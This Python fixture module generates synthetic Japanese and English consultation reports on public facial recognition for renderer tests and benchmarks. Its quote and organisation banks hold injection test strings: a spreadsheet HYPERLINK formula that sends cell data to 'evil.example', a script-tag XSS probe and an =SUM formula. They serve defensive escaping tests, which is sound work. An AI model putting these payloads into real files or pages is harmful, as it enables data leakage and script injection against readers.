"""Hand-built report content documents (ja and en) and coded responses, for the renderer tests
and the rendering benchmark. Deterministic for a given seed; sizes are parameters, so the same
builder gives a small fixture and a 100,000-response consultation."""

from __future__ import annotations

import random
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

START = datetime(2026, 1, 15, 0, 0, tzinfo=UTC)

BANK: dict[str, dict[str, Any]] = {
    "ja": {
        "title": "公共空間における顔認証システムの導入に関する意見募集",
        "department": "デジタル安全庁",
        "choice_questions": [
            (
                "likert",
                "顔認証カメラの導入に賛成しますか。",
                ["強く反対", "反対", "どちらでもない", "賛成", "強く賛成"],
            ),
            (
                "single_choice",
                "映像の保存期間として適切なものを選んでください。",
                ["24時間以内", "72時間", "30日", "保存すべきでない"],
            ),
            (
                "multiple_choice",
                "懸念していることをすべて選んでください。",
                ["誤認識", "差別的な運用", "目的外利用", "情報漏えい", "萎縮効果"],
            ),
            (
                "ranking",
                "優先すべき保護措置を順位付けしてください。",
                ["令状の要件", "監査ログの公開", "第三者機関の監督", "本人への通知"],
            ),
        ],
        "free_questions": [
            "この提案についてのご意見を自由にお書きください。",
            "保存期間と監査についてご意見があればお書きください。",
            "その他、政府に伝えたいことがあればお書きください。",
        ],
        "themes": [
            ("プライバシーの侵害", "公共空間で常に識別されることへの懸念。"),
            ("誤認識と差別", "照合の誤りが特定の集団に偏るおそれ。"),
            ("保存期間は長すぎる", "72時間の保存は必要以上に長いという意見。"),
            ("監査ログの公開", "検索と照合の記録を公開すべきという意見。"),
            ("令状主義の徹底", "照合には裁判所の令状を求めるべきという意見。"),
            ("防犯効果への期待", "犯罪の抑止や捜査に役立つという意見。"),
            ("費用対効果への疑問", "2億ドル規模の予算に見合う効果があるかという疑問。"),
            ("第三者機関による監督", "独立した機関が運用を監督すべきという意見。"),
            ("目的外利用の禁止", "集めた映像を他の目的に使わないことを求める意見。"),
            ("子どもの安全", "通学路などでの見守りに期待する意見。"),
            ("萎縮効果", "デモや集会への参加をためらわせるという懸念。"),
            ("説明と同意", "住民への説明と同意の手続を求める意見。"),
        ],
        "quotes": [
            "顔認証の誤認識が心配です。間違って犯人扱いされた人の救済手続が書かれていません。",
            "72時間の保存は長すぎます。照合に使わない映像はすぐに消すべきです。",
            "防犯のために必要だと思いますが、監査の記録は必ず公開してください。",
            '=HYPERLINK("https://evil.example/?"&A1,"詳細") 監視には反対です。',
            "<script>alert('x')</script> 令状なしの照合は認められません。",
            "詳しくは https://example.org/opinion をご覧ください。[メール]へのご連絡も可能です。",
            "子どもの通学路の安全のためには役立つと思います🙏",
            "+81 の番号への通知ではなく、本人に書面で知らせてください。",
        ],
        "clauses": [
            "目的",
            "対象となる場所",
            "映像の保存期間",
            "照合の手続",
            "監査と公表",
            "苦情の申出",
            "第三者機関",
            "施行期日",
            "見直し",
            "費用",
            "委託",
            "罰則",
        ],
        "organisations": [
            "日本デジタル市民連合",
            "全国防犯協会連合会",
            "監視社会を考える弁護士の会",
            "=SUM(A1:A9) 研究会",
            "情報公開クリアリングハウス",
            "商店街振興組合連合会",
        ],
        "kinds": [("individual", "個人"), ("organisation", "団体")],
        "regions": [
            ("13", "東京都"),
            ("27", "大阪府"),
            ("01", "北海道"),
            ("47", "沖縄県"),
            ("overseas", "海外"),
        ],
        "languages": [("ja", "日本語"), ("en", "英語")],
        "channels": [
            ("web", "ウェブフォーム"),
            ("api", "API"),
            ("campaign", "キャンペーン"),
            ("import", "インポート"),
        ],
        "steps": [
            "提出済みの回答を取得し、入力のハッシュを記録しました。",
            "テキストを正規化し、形態素解析しました(Sudachi モードC)。",
            "ほぼ同一の文章をまとめ、キャンペーンを検出しました。",
            "コードブックのテーマを割り当て、新しいテーマを発見しました。",
            "賛否を推定し、代表的な意見を個人情報を除いて選びました。",
        ],
        "view": "ご意見を踏まえ、保存期間の短縮を検討します。",
    },
    "en": {
        "title": "Consultation on facial recognition in public spaces",
        "department": "Digital Safety Agency",
        "choice_questions": [
            (
                "likert",
                "Do you support the deployment of facial-recognition cameras?",
                ["Strongly disagree", "Disagree", "Neither", "Agree", "Strongly agree"],
            ),
            (
                "single_choice",
                "How long should footage be kept?",
                ["Under 24 hours", "72 hours", "30 days", "Not at all"],
            ),
            (
                "multiple_choice",
                "Which of these concern you?",
                [
                    "Misidentification",
                    "Discrimination",
                    "Function creep",
                    "Data breach",
                    "Chilling effect",
                ],
            ),
            (
                "ranking",
                "Rank the safeguards by priority.",
                ["Warrants", "Published audit logs", "Independent oversight", "Notice to people"],
            ),
        ],
        "free_questions": [
            "Please tell us what you think of the proposal.",
            "Any comments on retention and audit?",
            "Anything else you want the government to know?",
        ],
        "themes": [
            ("Privacy intrusion", "Being identified at all times in public spaces."),
            ("Misidentification and bias", "Matching errors falling on particular groups."),
            ("Retention too long", "Seventy-two hours is longer than needed."),
            ("Publish audit logs", "Searches and matches should be published."),
            ("Require warrants", "Matching should need a court warrant."),
            ("Crime prevention benefits", "It helps deter and solve crime."),
            ("Cost doubts", "Whether a US$200 million programme is worth it."),
            ("Independent oversight", "An independent body should supervise the system."),
            ("No function creep", "Footage must not be used for other purposes."),
            ("Children's safety", "Watching school routes."),
            ("Chilling effect", "People will avoid demonstrations."),
            ("Consultation and consent", "Residents should be told and asked."),
        ],
        "quotes": [
            "I worry about false matches. There is no redress for people wrongly flagged.",
            "Seventy-two hours is too long. Delete unmatched footage at once.",
            "Useful for safety, but publish the audit logs.",
            '=HYPERLINK("https://evil.example/?"&A1,"more") I oppose this.',
            "<script>alert('x')</script> Matching without a warrant is unacceptable.",
            "See https://example.org/opinion for details. Write to [email].",
            "It would help keep children safe on the way to school 👍",
            "@everyone please read the proposal before supporting it.",
        ],
        "clauses": [
            "Purpose",
            "Places covered",
            "Retention of footage",
            "Matching procedure",
            "Audit and publication",
            "Complaints",
            "Oversight body",
            "Commencement",
            "Review",
            "Costs",
            "Contractors",
            "Penalties",
        ],
        "organisations": [
            "Japan Digital Citizens' Union",
            "National Crime Prevention Council",
            "Lawyers on Surveillance",
            "=SUM(A1:A9) Study Group",
            "Information Clearinghouse Japan",
            "Federation of Shopping Streets",
        ],
        "kinds": [("individual", "Individual"), ("organisation", "Organisation")],
        "regions": [
            ("13", "Tokyo"),
            ("27", "Osaka"),
            ("01", "Hokkaido"),
            ("47", "Okinawa"),
            ("overseas", "Overseas"),
        ],
        "languages": [("ja", "Japanese"), ("en", "English")],
        "channels": [
            ("web", "Web form"),
            ("api", "API"),
            ("campaign", "Campaign"),
            ("import", "Import"),
        ],
        "steps": [
            "Took the submitted responses and recorded the input hash.",
            "Normalised and tokenised the texts.",
            "Grouped near-identical texts and found campaigns.",
            "Assigned codebook themes and discovered new ones.",
            "Estimated stance and chose representative quotes with personal data removed.",
        ],
        "view": "We will consider shortening the retention period.",
    },
}


def cells(
    pairs: list[tuple[str, str]], counts: list[int], *, total: int, min_cell: int
) -> list[dict[str, Any]]:
    """Breakdown cells with small-cell suppression applied as the run does."""
    out: list[dict[str, Any]] = []
    for (key, label), count in zip(pairs, counts, strict=False):
        if count < min_cell:
            out.append(
                {"key": key, "label": label, "count": None, "share": None, "suppressed": True}
            )
        else:
            out.append(
                {
                    "key": key,
                    "label": label,
                    "count": count,
                    "share": round(count / total, 4) if total else 0.0,
                    "suppressed": False,
                }
            )
    return out


def theme(
    rng: random.Random,
    bank: dict[str, Any],
    index: int,
    *,
    base: int,
    quotes: int,
    min_cell: int,
    prefix: str,
) -> dict[str, Any]:
    """One theme with stance split, split by respondent type and quotes."""
    label, description = bank["themes"][index % len(bank["themes"])]
    count = max(base // (index + 2), 1)
    organisations = min(rng.choice([0, 2, 3, 7, 12]), count)
    split = [rng.randint(0, count) for _ in range(3)]
    split.sort()
    stance = dict(
        zip(
            ("support", "oppose", "mixed", "unclear"),
            [split[0], split[1] - split[0], split[2] - split[1], count - split[2]],
            strict=True,
        )
    )
    return {
        "key": f"{prefix}-{index}",
        "label": label,
        "description": description,
        "source": ["codebook", "discovered", "candidate", "other"][index % 4],
        "count": count,
        "unique_count": max(count // 3, 1),
        "share": round(min(count / max(base, 1), 1.0), 4),
        "stance": stance,
        "by_kind": cells(
            bank["kinds"],
            [max(count - organisations, 0), organisations],
            total=count,
            min_cell=min_cell,
        ),
        "quotes": [
            {
                "text": bank["quotes"][(index + q) % len(bank["quotes"])],
                "reference": f"R-{rng.randint(100000, 999999)}",
            }
            for q in range(quotes)
        ],
        "reviewed": index % 3 == 0,
    }


def make_content(
    language: str = "ja",
    *,
    responses: int = 1_250,
    choice_questions: int = 4,
    free_questions: int = 2,
    clauses: int = 4,
    themes_per_section: int = 5,
    quotes_per_theme: int = 2,
    organisations: int = 4,
    campaigns: int = 2,
    min_cell: int = 5,
    seed: int = 0,
) -> dict[str, Any]:
    """A complete content document of schema version 1 with suppressed cells."""
    rng = random.Random(seed)
    bank = BANK[language]
    organisations_count = max(organisations, 3)
    individuals = responses - organisations_count
    questions: list[dict[str, Any]] = []
    for index in range(choice_questions):
        kind, text, options = bank["choice_questions"][index % len(bank["choice_questions"])]
        answered = responses - rng.randint(0, responses // 10)
        weights = [rng.random() + 0.1 for _ in options]
        counts = [int(answered * w / sum(weights)) for w in weights]
        counts[-1] = 3  # a small option, suppressed
        results = cells(
            [(f"o{i}", o) for i, o in enumerate(options)], counts, total=answered, min_cell=min_cell
        )
        if kind == "ranking":
            for position, result in enumerate(results):
                result["mean_rank"] = round(1.4 + position * 0.6, 2)
        questions.append(
            {
                "key": f"q{index + 1}",
                "text": text,
                "kind": kind,
                "answered": answered,
                "results": results,
                "themes": [],
            }
        )
    for index in range(free_questions):
        answered = responses // (index + 2)
        questions.append(
            {
                "key": f"free{index + 1}",
                "text": bank["free_questions"][index % 3],
                "kind": "free_text",
                "answered": answered,
                "results": [],
                "themes": [
                    theme(
                        rng,
                        bank,
                        t,
                        base=answered,
                        quotes=quotes_per_theme,
                        min_cell=min_cell,
                        prefix=f"free{index + 1}",
                    )
                    for t in range(themes_per_section)
                ],
            }
        )
    clause_list = []
    for index in range(clauses):
        comments = rng.randint(responses // 50, responses // 4) if responses >= 50 else 9
        oppose = round(rng.random() * 0.8, 3)
        clause_list.append(
            {
                "number": str(index + 1),
                "title": bank["clauses"][index % len(bank["clauses"])],
                "comments": comments,
                "oppose_share": oppose,
                "support_share": round((1 - oppose) * rng.random(), 3),
                "themes": [
                    theme(
                        rng,
                        bank,
                        t + index,
                        base=comments,
                        quotes=quotes_per_theme,
                        min_cell=min_cell,
                        prefix=f"c{index + 1}",
                    )
                    for t in range(themes_per_section)
                ],
            }
        )
    campaign_list = [
        {
            "id": f"g{index + 1}",
            "kind": "declared" if index == 0 else "undeclared",
            "declared": index == 0,
            "status": "declared" if index == 0 else ("confirmed" if index % 2 else "unreviewed"),
            "title": bank["organisations"][0] if index == 0 else "",
            "organisation": bank["organisations"][0] if index == 0 else "",
            "size": responses // (5 * (index + 1)),
            "template_stance": "oppose",
            "themes": [{"key": "t1", "label": bank["themes"][0][0]}],
            "own_words": responses // (50 * (index + 1)),
            "addition_themes": [{"label": bank["themes"][1][0], "count": 3}],
            "canonical_text": bank["quotes"][index % len(bank["quotes"])] * 3,
            "first_at": (START + timedelta(days=index)).isoformat(),
            "last_at": (START + timedelta(days=index + 9)).isoformat(),
            "stance": {
                "support": 0,
                "oppose": responses // (5 * (index + 1)),
                "mixed": 0,
                "unclear": 0,
            },
        }
        for index in range(campaigns)
    ]
    organisation_list = [
        {
            "name": bank["organisations"][index % len(bank["organisations"])]
            + ("" if index < len(bank["organisations"]) else f" {index}"),
            "reference": f"R-{500000 + index}",
            "summary": (" ".join(bank["quotes"][(index + j) % 3] for j in range(4)))[:400],
            "verified": index % 2 == 0,
            **(
                {"document_themes": [t["label"] for t in clause_list[0]["themes"][:2]]}
                if index == 0 and clause_list
                else {}
            ),
        }
        for index in range(organisations)
    ]
    documents = {
        "label": "団体の添付文書" if language == "ja" else "Organisations' attached documents",
        "responses": 1 if organisations and clause_list else 0,
        "themes": [
            {**t, "quotes": []}
            for t in (clause_list[0]["themes"][:2] if organisations and clause_list else [])
        ],
    }
    all_themes = [(f"Q{i + 1}", t) for i, q in enumerate(questions) for t in q["themes"]] + [
        (c["title"], t) for c in clause_list for t in c["themes"]
    ]
    egov = [
        {
            "no": n,
            "section": section,
            "theme_key": t["key"],
            "summary": f"{t['label']}:{t['description']}",
            "count": t["count"],
            "government_view": bank["view"] if n % 2 else "",
        }
        for n, (section, t) in enumerate(all_themes, start=1)
    ]
    kinds = cells(
        bank["kinds"], [individuals, organisations_count], total=responses, min_cell=min_cell
    )
    region_counts = [responses * 6 // 10, responses * 3 // 10, responses // 10 - 5, 3, 2]
    by_region = cells(bank["regions"], region_counts, total=responses, min_cell=min_cell)
    by_language = cells(
        bank["languages"],
        [responses * 9 // 10, responses - responses * 9 // 10],
        total=responses,
        min_cell=min_cell,
    )
    by_channel = cells(
        bank["channels"],
        [responses // 2, responses // 4, responses // 5, 4],
        total=responses,
        min_cell=min_cell,
    )
    parameters = {
        "quotes_per_theme": quotes_per_theme,
        "dedup_threshold": 0.8,
        "max_discovered": 12,
        "language_hint": language,
    }
    generated = (START + timedelta(days=40)).isoformat()
    return {
        "schema_version": 1,
        "language": language,
        "generated_at": generated,
        "consultation": {
            "slug": "facial-recognition",
            "title": bank["title"],
            "department": bank["department"],
            "opens_at": START.isoformat(),
            "closes_at": (START + timedelta(days=30)).isoformat(),
            "status": "analysed",
        },
        "run": {
            "id": 42,
            "started_at": generated,
            "finished_at": generated,
            "input_hash": "9f2c" * 16,
            "code_version": "0.1.0+g1234abc",
            "parameters": parameters,
            "seed": seed,
        },
        "suppression": {"min_cell": min_cell},
        "headline": {
            "responses": responses,
            "unique_texts": responses * 2 // 3,
            "campaigns": campaigns,
            "campaign_responses": sum(c["size"] for c in campaign_list),
            "individual_responses": max(0, individuals - sum(c["size"] for c in campaign_list)),
            "organisation_responses": organisations_count,
            "email": {"verified": responses // 3, "unverified": responses // 3, "none": 0},
            "organisations": organisations_count,
            "individuals": individuals,
            "by_kind": kinds,
            "by_region": by_region,
            "by_language": by_language,
            "by_channel": by_channel,
        },
        "questions": questions,
        "clauses": clause_list,
        "campaigns": campaign_list,
        "organisations": organisation_list,
        "documents": documents,
        "egov_table": egov,
        "methodology": {
            "steps": bank["steps"],
            "parameters": parameters,
            "input_hash": "9f2c" * 16,
            "code_version": "0.1.0+g1234abc",
            "generated_at": generated,
            "engine_stats": {"dedup_s": 1.25, "themes_s": 3.5, "near_duplicate_groups": 17},
            "theme_checks": [
                {
                    "section": "clause:1",
                    "label": clause_list[0]["title"] if clause_list else "clause:1",
                    "checked": 40,
                    "precision": 0.712,
                    "recall": 0.655,
                    "f1": 0.682,
                    "f1_low": 0.591,
                    "f1_high": 0.764,
                    "exact": 0.425,
                },
                {
                    "section": "question:q2",
                    "label": "Q2",
                    "checked": 6,
                    "precision": 0.5,
                    "recall": 1.0,
                    "f1": 0.667,
                    "f1_low": None,
                    "f1_high": None,
                    "exact": 0.333,
                },
            ],
        },
    }


def make_coded_rows(n: int, *, language: str = "ja", seed: int = 0) -> Iterator[dict[str, Any]]:
    """``n`` coded responses, generated one at a time."""
    rng = random.Random(seed)
    bank = BANK[language]
    labels = [label for label, _ in bank["themes"]]
    for index in range(n):
        quote = bank["quotes"][index % len(bank["quotes"])]
        yield {
            "reference": f"R-{index + 1:07d}",
            "submitted_at": (START + timedelta(seconds=17 * index)).isoformat(),
            "language": language,
            "kind": "organisation" if index % 97 == 0 else "individual",
            "region": bank["regions"][index % len(bank["regions"])][0],
            "channel": bank["channels"][index % 3][0],
            "themes": rng.sample(labels, k=1 + index % 3),
            "stance": ("support", "oppose", "mixed", "unclear")[index % 4],
            "text": quote if index % 5 else quote + " " + bank["quotes"][(index + 1) % 8],
        }
